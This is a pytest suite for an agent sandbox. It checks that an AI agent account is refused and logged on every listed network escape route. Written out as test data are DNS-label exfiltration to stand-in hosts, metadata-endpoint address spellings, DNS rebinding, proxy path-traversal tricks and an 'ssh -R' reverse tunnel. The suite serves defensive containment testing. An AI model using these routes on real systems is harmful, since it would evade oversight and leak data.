# Copyright: the cordon.agent_host authors
# GNU General Public License v3.0 or later (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every way out that we know (peers.md S-25 to S-33): taken by an ordinary user it reaches the world; the agent is refused
at once, nothing of it arrives, and a log says so.

All ways are taken once, in one session of each (`taken`); the tests judge. The world: world.py. The attempts:
egress_probe.py.
"""

from __future__ import annotations

import ipaddress
import json
import os
import re
import runpy
import shlex
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any, NamedTuple
from urllib.parse import unquote

import pytest

pytestmark = pytest.mark.kernel
# Its addresses and names; tests of a scenario are no package.
world = SimpleNamespace(**runpy.run_path(str(Path(__file__).with_name("world.py"))))
AGENT = "scout"
AUDIT_LOG = "/var/log/audit/audit.log"
SOON = 2.0  # seconds within which an agent is told no

Line = tuple[str, str, str, int | None]  # what the kernel's log says: denied or metadata, protocol, address, port


class Way(NamedTuple):
    """attempt: what the agent tries. works: what an ordinary user tries, where that differs. said: what the user hears."""

    attempt: list[Any]
    line: Line | None = None
    works: list[Any] | None = None
    said: str = "."


def kernel(
    how: str, address: str, port: int, *, protocol: str = "TCP", kind: str = "denied", spelled: str = "", **more: Any
) -> Way:
    """A way that the packet filter closes."""
    return Way([how, spelled or address, port], (kind, protocol, address, port), **more)


def spellings(address: str) -> dict[str, str]:
    """How else the C library lets an IPv4 address be written (inet_aton(3)), and IPv6 (RFC 4291)."""
    packed = ipaddress.IPv4Address(address).packed
    return {
        "decimal": str(int.from_bytes(packed, "big")),
        "octal": ".".join(f"0{octet:o}" for octet in packed),
        "hexadecimal": hex(int.from_bytes(packed, "big")),
        "mapped into IPv6": f"::ffff:{address}",
    }


def question(server: str, transport: str) -> Way:
    attempt = ["dns", server, "stolen.outside.example.net", "A", transport]
    return Way(attempt, ("denied", transport.upper(), server, 53), ["dns", server, "outside.example.net", "A", transport],
               f"NOERROR 1 {world.OFF_LIST}")  # fmt: skip


# --- What the packet filter closes --------------------------------------------------------------------

BY_PACKET_FILTER = {
    **{f"{who} name server, {transport}": question(server, transport)
       for who, server in (("rogue", world.ROGUE), ("the resolver's own", world.RESOLVER)) for transport in ("udp", "tcp")},
    "DNS over TLS": Way(["tls", world.ROGUE, 853, "dns", "dns"], ("denied", "TCP", world.ROGUE, 853), said="HTTP/1.1 200"),
    "DNS over HTTPS": Way(["tls", world.ROGUE, 443, "dns", "dns"], ("denied", "TCP", world.ROGUE, 443), said="HTTP/1.1 200"),
    "mDNS": Way(["multicast", "224.0.0.251", 5353, "eth0"], ("denied", "UDP", "224.0.0.251", 5353)),
    "LLMNR": Way(["multicast", "224.0.0.252", 5355, "eth0"], ("denied", "UDP", "224.0.0.252", 5355)),
    "mDNS, IPv6": Way(["multicast", "ff02::fb", 5353, "eth0"], ("denied", "UDP", "ff02::fb", 5353)),
    "LLMNR, IPv6": Way(["multicast", "ff02::1:3", 5355, "eth0"], ("denied", "UDP", "ff02::1:3", 5355)),
    "address": kernel("tcp", world.OFF_LIST, 22),
    "address, IPv6": kernel("tcp", world.OFF_LIST6, 22),
    **{f"address, {how}": kernel("tcp", world.OFF_LIST, port, spelled=spelled)
       for port, (how, spelled) in zip((25, 80, 5432, 8080), spellings(world.OFF_LIST).items(), strict=True)},
    "address of an https name, past the proxy": kernel("connect", world.API, 443),
    "address of an https name, IPv6": kernel("connect", world.API6, 443),
    "granted network, another port": kernel("tcp", world.GRANTED, 22),
    "address of an ssh name, another port": kernel("connect", world.GIT, 443),
    "QUIC": kernel("udp", world.API, 443, protocol="UDP"),
    "ICMP": Way(["ping", world.OFF_LIST], ("denied", "ICMP", world.OFF_LIST, None)),
    "ICMP, IPv6": Way(["ping", world.OFF_LIST6], ("denied", "ICMPv6", world.OFF_LIST6, None)),
    "UDP-Lite": Way(["protocol", world.OFF_LIST, 136, "dgram"], ("denied", "UDPLITE", world.OFF_LIST, 443)),
    "mail server of the host": kernel("tcp", "127.0.0.1", 25, said="220 world"),
    "mail server of the host, IPv6": kernel("tcp", "::1", 25, said="220 world"),
    **{f"metadata at {address}": kernel("tcp", address, 80, kind="metadata")
       for address in ("169.254.169.254", "fd00:ec2::254", *world.METADATA)},
    **{f"metadata, {how}": kernel("tcp", "169.254.169.254", 80, kind="metadata", spelled=spelled)
       for how, spelled in spellings("169.254.169.254").items()},
    "metadata over TLS": kernel("connect", world.ALIBABA, 443, kind="metadata"),
}  # fmt: skip
# 127.99.0.0/16 is closed to alice too, so nothing of hers shows that these ways work; the agent's own listeners do (BY_PROXY,
# BY_RESOLVER), and root may ask the proxy's state.
LISTENERS = {
    "answers for the proxy": Way(["dns", "127.99.255.1", "api.example.org", "A", "udp"], ("denied", "UDP", "127.99.255.1", 53)),
    "state of the proxy": kernel("connect", "127.99.255.1", 3128),
}  # fmt: skip
# The errors that stand for no; a datagram's is EPERM, because its packet never left the output hook.
NO = ("ECONNREFUSED", "EPERM", "EACCES", "ECONNRESET", "EHOSTUNREACH", "ENETUNREACH")

# --- What the resolver refuses ------------------------------------------------------------------------

# (name, type): what the agent hears, what the resolver's line says of it, and the beginning of its reason.
BY_RESOLVER = {
    "label below a foreign name": ("c2VjcmV0.outside.example.net", "A", "REFUSED 0", "refused", "the manifest"),
    "label below an allowed name": ("c2VjcmV0.git.example.org", "A", "REFUSED 0", "refused", "the manifest"),
    "label below a wildcard of the proxy's": ("c2VjcmV0.packages.example.org", "A", "REFUSED 0", "refused", "the manifest"),
    "name of the proxy's": ("api.example.org", "A", "REFUSED 0", "refused", "the manifest"),
    "name beside an allowed one": ("git.example.org.outside.example.net", "A", "REFUSED 0", "refused", "the manifest"),
    **{kind: ("git.example.org", kind, "NOERROR 0", "refused", "only addresses")
       for kind in ("TXT", "NULL", "HTTPS", "SVCB", "MX")},
    "metadata's name": ("metadata.google.internal", "A", "REFUSED 0", "refused", "it is the name of a metadata"),
    "alias of metadata's name": ("alias.example.org", "A", "NOERROR 0", "filtered", "its alias metadata.google.internal"),
    "name that leads to metadata": ("rebound.example.org", "A", "NOERROR 0", "filtered", f"{world.ALIBABA} is a metadata"),
    "name that leads to a private network": ("private.example.org", "A", "NOERROR 0", "filtered",
                                             f"{world.PRIVATE} is a private"),
}  # fmt: skip
LEAKS = ("c2vjcmv0", "stolen", "git.example.org.outside")

# --- What the proxy refuses ---------------------------------------------------------------------------


class Asked(NamedTuple):
    """What goes to the proxy. By default the handshake and the request are for the host of the CONNECT line."""

    target: str
    reason: str
    sni: str | None = "="
    host: str = "="
    answer: str = "CONNECT 403"
    path: str = "/"

    def said(self) -> tuple[str | None, str]:
        """What is said inside the connection: the name in the handshake, the host of the request."""
        name = self.name()
        return (name if self.sni == "=" else self.sni), (name if self.host == "=" else self.host)

    def name(self) -> str:
        return self.target.rpartition(":")[0].strip("[]")

    def attempt(self, proxy: str) -> list[Any]:
        return ["proxied", proxy, 3128, self.target, *self.said(), self.path]

    def works(self) -> list[Any]:
        """The same without a proxy: to the address that the name has in the world, or to what stands there in its place."""
        name, port = self.name(), int(self.target.rpartition(":")[2])
        if self.reason == "metadata" or name in ("fd00:ec2::254", *spellings("169.254.169.254").values(), "169.254.169.254"):
            return ["tcp", "169.254.169.254", 80]
        address = name if name[0].isdigit() or ":" in name else world.ZONE.get((name, "A"), [world.OFF_LIST])[0]
        return ["tls", address, port, *self.said(), self.path] if port == 443 else ["tcp", address, port]


CLOSED = r"TLS|ConnectionReset|ECONNRESET|EPIPE|SSLEOF|^$"
BY_PROXY = {
    "name off the list": Asked("outside.example.net:443", "name"),
    "address": Asked(f"{world.OFF_LIST}:443", "name"),
    "address of an allowed name": Asked(f"{world.API}:443", "name"),
    "address, IPv6": Asked(f"[{world.OFF_LIST6}]:443", "name"),
    "other port": Asked("api.example.org:22", "port"),
    "name of a wildcard itself": Asked("packages.example.org:443", "name"),
    "name of another agent": Asked("notes.example.org:443", "name"),
    "data in a name off the list": Asked("c2VjcmV0.outside.example.net:443", "name"),
    "metadata": Asked("169.254.169.254:443", "metadata"),
    "metadata, plain port": Asked("169.254.169.254:80", "metadata"),
    "metadata, IPv6": Asked("[fd00:ec2::254]:443", "metadata"),
    "metadata, mapped": Asked("[::ffff:169.254.169.254]:443", "metadata"),
    "metadata, decimal": Asked("2852039166:443", "metadata"),
    "metadata's name": Asked("metadata.google.internal:443", "metadata"),
    "name that leads to metadata": Asked("rebound.example.org:443", "unresolved"),
    "alias of metadata's name": Asked("alias.example.org:443", "unresolved"),
    "loopback": Asked("127.0.0.1:25", "name"),
    "handshake for a name off the list": Asked("api.example.org:443", "sni", sni="outside.example.net", answer=CLOSED),
    "handshake without a name": Asked("api.example.org:443", "sni", sni=None, answer=CLOSED),
    "handshake for another allowed name": Asked("api.example.org:443", "sni", sni="a.packages.example.org", answer=CLOSED),
    "inspected, handshake for another": Asked("inspected.example.org:443", "sni", sni="api.example.org", answer=CLOSED),
    "inspected, request for a name off the list": Asked("inspected.example.org:443", "name", host="outside.example.net",
                                                        answer="HTTP/1.1 403"),
    "inspected, request for another": Asked("inspected.example.org:443", "host", host="api.example.org", answer="HTTP/1.1 403"),
    # An allowed host is a channel to all who use it: what is not granted of it, and spellings of that.
    **{f"inspected, {how}": Asked("inspected.example.org:443", "request", answer="HTTP/1.1 403", path=path) for how, path in (
        ("place of somebody else", "/gists"), ("data in a query", "/v1?data=secret"),
        ("place around a granted one", "/v1/../gists"), ("place in other letters", "/v1/%2e%2e/gists"),
        ("place behind an encoded slash", "/v1/..%2fgists"))},
}

# --- What the sandbox closes --------------------------------------------------------------------------

# The beginning of the answer to an ordinary user, and what the audit log names; seccomp leaves no line there.
BY_SANDBOX: dict[str, tuple[list[Any], str, str | None]] = {
    "raw socket": (["protocol", world.OFF_LIST, 253, "raw"], "sent", None),
    "packet socket": (["packet", "eth0"], "sent", None),
    "systemd-resolved over D-Bus": (["unix", "/run/dbus/system_bus_socket"], "DATA", None),
    "systemd-resolved over varlink": (["unix", world.RESOLVED], "hello", None),
    "Docker": (["unix", world.DOCKER], "hello", None),
    "containerd": (["unix", world.CONTAINERD], "hello", None),
    "podman": (["unix", world.PODMAN], "hello", None),
    "snapd": (["unix", world.SNAPD], "hello", None),
    "Avahi": (["unix", world.AVAHI], "hello", None),
    "CUPS": (["unix", world.CUPS], "hello", None),
    "sendmail": (["run", "/usr/sbin/sendmail", "root@outside.example.net"], "exit 0", "/usr/sbin/sendmail"),
    "ping with rights of its own": (["run", "/usr/bin/ping", "-c1", "-W2", world.OFF_LIST], "exit 0", "/usr/bin/ping"),
    "apt": (["run", "/usr/bin/apt-get", "--version"], "exit 0", "/usr/bin/apt-get"),
    "ssh": (["run", "/usr/bin/ssh", "-V"], "exit 0 OpenSSH", "/usr/bin/ssh"),
    "nft": (["run", "/usr/sbin/nft", "--version"], "exit 0 nftables", "/usr/sbin/nft"),
}
# Stands in for a mail server's own program, which hands letters to a daemon.
SENDMAIL = "#!/bin/sh\nexit 0\n"

Taken = dict[str, Any]


@pytest.fixture(scope="module")
def services() -> dict[str, Any]:
    """The test bed's, with the ssh server outside to which a reverse tunnel would lead."""
    found: dict[str, Any] = json.loads((Path(os.environ["CORDON_TESTBED"]) / "services.json").read_text())
    return found


@pytest.fixture(scope="module")
def taken(host: Any, attempts: Callable[..., Any], listener: Callable[[str], str]) -> Taken:
    """All ways, taken by alice and then by the agent: {who: {group: {way: (outcome, seconds)}}}, and where the logs began."""
    own, other = listener(AGENT), listener("scribe")
    ways = {
        "packet filter": {way: (tried.works or tried.attempt, tried.attempt) for way, tried in BY_PACKET_FILTER.items()},
        "resolver": {way: (["dns", world.RESOLVER, name, kind, "udp"], ["dns", own, name, kind, "udp"])
                     for way, (name, kind, *_said) in BY_RESOLVER.items()},
        "proxy": {way: (asked.works(), asked.attempt(own)) for way, asked in BY_PROXY.items()},
        "listeners": {way: (tried.attempt, tried.attempt) for way, tried in LISTENERS.items()},
        "sandbox": {way: (attempt, attempt) for way, (attempt, *_said) in BY_SANDBOX.items()},
        "more": {
            "another agent's proxy": (["asked", other, 3128, "GET http://x/"],) * 2,
            "inner port of the proxy": (["connect", own, 3129],) * 2,
            "log": (["log", "sent by somebody"],) * 2,
        },
    }  # fmt: skip
    # As systemd sets it where it is not left out: everybody may ping.
    ping_group = host.check_output("sysctl -n net.ipv4.ping_group_range")
    host.check_output("sysctl -w net.ipv4.ping_group_range='0 2147483647'")
    planted = host.run("test -e /usr/sbin/sendmail").rc != 0
    if planted:
        host.check_output(f"printf %s {shlex.quote(SENDMAIL)} > /usr/sbin/sendmail && chmod 0755 /usr/sbin/sendmail")
    try:
        found: Taken = {"alice": _take(attempts, "alice", ways, 0)}
        host.check_output(f"touch {world.ARRIVALS}")
        found["arrived"] = int(host.check_output(f"wc -l < {world.ARRIVALS}"))
        found["audit"] = int(host.check_output(f"wc -l < {AUDIT_LOG}"))
        found["since"] = host.check_output("date +%s.%N")
        found[AGENT] = _take(attempts, AGENT, ways, 1)
    finally:
        host.run(f"sysctl -w net.ipv4.ping_group_range='{ping_group}'")
        if planted:
            host.run("rm /usr/sbin/sendmail")
    return found


def _take(attempts: Callable[..., Any], who: str, ways: dict[str, dict[str, Any]], side: int) -> dict[str, dict[str, Any]]:
    outcomes = iter(attempts(who, [pair[side] for group in ways.values() for pair in group.values()]))
    return {group: {way: next(outcomes) for way in pairs} for group, pairs in ways.items()}


@pytest.fixture(scope="module")
def kernel_lines(host: Any, taken: Taken) -> list[Line]:
    """What the kernel has logged of the agent since."""
    text = host.check_output(f"journalctl --dmesg --no-pager --output=cat --since=@{taken['since']}")
    return [line for line in map(_line, text.splitlines()) if line]


def _line(text: str) -> Line | None:
    kind = re.search(rf"cordon:{AGENT}:(denied|metadata) ", text)
    said = dict(word.split("=", 1) for word in text.split() if "=" in word)
    if not kind or "UID" not in said:
        return None
    protocol = {"136": "UDPLITE"}.get(said["PROTO"], said["PROTO"])
    return kind[1], protocol, str(ipaddress.ip_address(said["DST"])), int(said["DPT"]) if "DPT" in said else None


@pytest.mark.parametrize("way", BY_PACKET_FILTER)
def test_the_packet_filter_closes_it(taken: Taken, kernel_lines: list[Line], way: str) -> None:
    tried = BY_PACKET_FILTER[way]
    works, (outcome, seconds) = taken["alice"]["packet filter"][way][0], taken[AGENT]["packet filter"][way]
    assert re.match(tried.said, works) and works not in (*NO, "ETIMEDOUT"), f"the way does not work at all: {works}"
    assert outcome in NO
    assert seconds < SOON
    assert tried.line in kernel_lines


@pytest.mark.parametrize("way", LISTENERS)
def test_the_services_own_listeners_are_closed_to_everybody(host: Any, taken: Taken, kernel_lines: list[Line], way: str) -> None:
    (alice, _), (outcome, seconds) = taken["alice"]["listeners"][way], taken[AGENT]["listeners"][way]
    assert (alice in NO, outcome in NO, seconds < SOON) == (True, True, True)
    assert LISTENERS[way].line in kernel_lines
    state = "import socket; socket.create_connection(('127.99.255.1', 3128), 2)"
    assert host.run(f'python3 -c "{state}"').rc == 0, "root's own checks cannot ask the proxy"
    assert "cordon:_others:denied " in host.check_output("journalctl --dmesg --no-pager --output=cat --grep=cordon:_others")


@pytest.mark.parametrize("way", BY_RESOLVER)
def test_the_resolver_refuses_it(host: Any, taken: Taken, way: str) -> None:
    name, kind, heard, outcome, reason = BY_RESOLVER[way]
    assert taken["alice"]["resolver"][way][0].startswith(("NOERROR", "NXDOMAIN")), "the way does not work at all"
    said, seconds = taken[AGENT]["resolver"][way]
    assert (said, seconds < SOON) == (heard, True)
    lines = host.check_output(f"journalctl --no-pager --output=cat --unit=cordon-resolver --since=@{taken['since']}").splitlines()
    told = [json.loads(line) for line in lines if line.startswith("{")]
    mine = [(line["outcome"], line.get("reason", "")) for line in told
            if (line["agent"], line["name"], line["type"]) == (AGENT, name.lower(), kind)]  # fmt: skip
    assert [one for one in mine if one[0] == outcome and one[1].startswith(reason)], mine


@pytest.fixture(scope="module")
def proxy_lines(host: Any, taken: Taken) -> list[dict[str, Any]]:
    """What the proxy has logged of the agent since."""
    lines = [json.loads(line, strict=False) for line in host.check_output("cat /var/log/cordon/proxy.log").splitlines()]
    return [line for line in lines if line["agent"] == AGENT and line["at"] >= float(taken["since"])]


@pytest.mark.parametrize("way", BY_PROXY)
def test_the_proxy_refuses_it(taken: Taken, proxy_lines: list[dict[str, Any]], way: str) -> None:
    asked = BY_PROXY[way]
    assert re.match("HTTP/1.[01] 200|220 world|SSH-2.0|hello", taken["alice"]["proxy"][way][0]), "the way does not work at all"
    said, seconds = taken[AGENT]["proxy"][way]
    assert re.search(asked.answer, said), said
    assert seconds < SOON
    # An address is told as the proxy reads it; of a request inside a connection the host that it is for.
    names = {asked.name().lower(), "169.254.169.254" if "metadata, " in way else "", asked.said()[1].lower()}
    mine = [(line["host"], line["reason"]) for line in proxy_lines if unquote(line["host"]).strip("[]").lower() in names]
    assert [one for one in mine if one[1] == asked.reason], mine


@pytest.mark.parametrize("way", BY_SANDBOX)
def test_the_sandbox_closes_it(host: Any, taken: Taken, way: str) -> None:
    _attempt, works, named = BY_SANDBOX[way]
    assert taken["alice"]["sandbox"][way][0].startswith(works), taken["alice"]["sandbox"][way]
    outcome, seconds = taken[AGENT]["sandbox"][way]
    assert outcome in ("EACCES", "EPERM", "EAFNOSUPPORT", "ENOENT"), outcome
    assert seconds < SOON
    refusals = host.check_output(f"tail -n +{taken['audit'] + 1} {AUDIT_LOG} | grep 'apparmor=\"DENIED\"' || true")
    assert named is None or f'name="{named}"' in refusals


@pytest.mark.parametrize("way", ["another agent's proxy", "inner port of the proxy"])
def test_an_agent_reaches_its_own_listener_only(
    taken: Taken, kernel_lines: list[Line], way: str, listener: Callable[[str], str]
) -> None:
    """Nor does anybody else; that each agent reaches its own is what the proxy's tests begin with."""
    assert taken["alice"]["more"][way][0] == taken[AGENT]["more"][way][0] == "ECONNREFUSED"
    place = (listener("scribe"), 3128) if way.startswith("another") else (listener(AGENT), 3129)
    assert ("denied", "TCP", *place) in kernel_lines


def test_what_an_agent_logs_is_refused_or_bears_its_name(host: Any, taken: Taken) -> None:
    """The journal may be shipped elsewhere: whoever reads it there must see who wrote."""
    assert taken["alice"]["more"]["log"][0] == "sent", "the way does not work at all"
    uid = host.user(f"agent-{AGENT}").uid
    lines = host.check_output(
        f"journalctl --no-pager --output=cat --since=@{taken['since']} --grep='sent by somebody' _UID={uid} || true"
    )
    assert bool(lines.strip()) == (taken[AGENT]["more"]["log"][0] == "sent")


def test_nothing_of_it_arrives(taken: Taken, arrivals: Callable[[int], list[dict[str, Any]]]) -> None:
    """In the world there is nothing but the questions that the resolver asks by itself, about names that are allowed."""
    before = arrivals(0)[:taken["arrived"]]
    assert {"c2VjcmV0.outside.example.net", "c2VjcmV0.git.example.org"} <= {one.get("name") for one in before}
    found = arrivals(taken["arrived"])
    asked = [one for one in found if one["kind"] == "dns"]
    # The proxy shakes hands with an inspected host before it reads what is wanted of it.
    assert {(one["kind"], one.get("sni")) for one in found if one not in asked} <= {("hello", "inspected.example.org")}
    assert {one["address"] for one in asked} <= {world.RESOLVER}
    assert {one["type"] for one in asked} <= {"A", "AAAA"}
    assert [one["name"] for one in asked if any(leak in one["name"].lower() for leak in LEAKS)] == []
    assert all(one["name"] == one["name"].lower() for one in asked)


def test_a_reverse_tunnel_leads_nowhere(
    host: Any, attempts: Callable[..., Any], services: dict[str, Any], eventually: Callable[..., Any]
) -> None:
    """ssh -R, to a machine outside whose key the agent has."""
    address, port, user = services["address"], services["tunnel"]["port"], services["tunnel"]["user"]
    dig = (f"timeout 40 runuser -u alice -- ssh -n -i /home/alice/.ssh/tunnel_key -p {port} -o BatchMode=yes -o LogLevel=INFO"
           f" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -R 0:127.0.0.1:22"
           f" -N {user}@{address}")  # fmt: skip
    host.check_output(f"cd /; ({dig} > /run/egress-tunnel 2>&1 &)")
    try:
        eventually(lambda: "Allocated port" in host.check_output("cat /run/egress-tunnel"))
    finally:
        host.run("pkill -u alice -f '[-]R 0:127.0.0.1:22'; rm -f /run/egress-tunnel")
    since = host.check_output("date +%s.%N")
    ((outcome, seconds),) = attempts(AGENT, [["tcp", address, port]])
    assert (outcome, seconds < SOON) == ("ECONNREFUSED", True)

    def logged() -> bool:
        lines = host.check_output(f"journalctl --dmesg --no-pager --output=cat --since=@{since}").splitlines()
        return ("denied", "TCP", address, port) in map(_line, lines)

    assert eventually(logged)


def test_a_name_that_moves_opens_only_where_it_may_lead(
    attempts: Callable[..., Any], listener: Callable[[str], str], arrivals: Callable[[int], list[dict[str, Any]]], host: Any
) -> None:
    """DNS rebinding: once to a harmless place, then to metadata, for the agent itself and through the proxy."""
    own, name = listener(AGENT), "rebinding.example.org"
    ((both, _),) = attempts("alice", [["dns_again", world.RESOLVER, name, 4]])
    assert both == f"{world.ALIBABA} {world.API}", "the name does not move: this test shows nothing"
    since = int(host.check_output(f"wc -l < {world.ARRIVALS}"))
    (seen, _), (open_, _), (closed, _), *through = attempts(AGENT, [
        ["dns_again", own, name, 5], ["tcp", world.API, 8080], ["tcp", world.ALIBABA, 8080],
        *[["proxied", own, 3128, f"{name}:443", name, name]] * 4,
    ])  # fmt: skip
    assert (seen, open_, closed) == (world.API, "hello", "ECONNREFUSED")
    assert {outcome for outcome, _seconds in through} <= {"HTTP/1.1 200 Because", "CONNECT 403", "CONNECT 503"}
    assert world.ALIBABA not in {one["address"] for one in arrivals(since)}
